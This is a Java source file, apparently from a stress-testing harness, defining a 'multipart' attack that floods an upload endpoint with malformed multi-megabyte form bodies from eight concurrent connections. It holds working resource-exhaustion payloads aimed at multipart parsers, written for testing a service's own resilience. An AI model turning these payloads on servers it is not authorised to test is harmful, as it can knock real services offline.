package dev.jobwise.attack;

import java.nio.charset.StandardCharsets;
import java.time.Duration;

/**
 * Sends forms of a few megabytes that consist of one preamble, one header, or near-boundaries, and
 * leaves.
 */
final class MultipartAttack implements Attack {

  @Override
  public String name() {
    return "multipart";
  }

  @Override
  public void run(Target target, Duration length) throws InterruptedException {
    String[] bodies = {
      "x".repeat(2_000_000),
      "--b\r\nX: " + "y".repeat(2_000_000),
      "--b\r\n" + "X: y\r\n".repeat(300_000),
      "--b\r\nContent-Disposition: form-data; name=file; filename=a.txt\r\n\r\n"
          + "\r\n--b ".repeat(300_000),
      "--b\r\nContent-Disposition: form-data; name=x\r\n\r\n\r\n".repeat(30_000)
    };
    byte[][] requests = new byte[bodies.length][];
    for (int i = 0; i < bodies.length; i++) {
      String head =
          "POST /api/v1/samples/upload HTTP/1.1\r\nHost: a\r\nAuthorization: Bearer "
              + target.token()
              + "\r\nContent-Type: multipart/form-data; boundary=b\r\nContent-Length: "
              + bodies[i].length()
              + "\r\n\r\n";
      requests[i] = (head + bodies[i]).getBytes(StandardCharsets.ISO_8859_1);
    }
    new Crowd(8, true, Duration.ofMillis(1))
        .speak(target, length, turn -> requests[turn % requests.length]);
  }
}
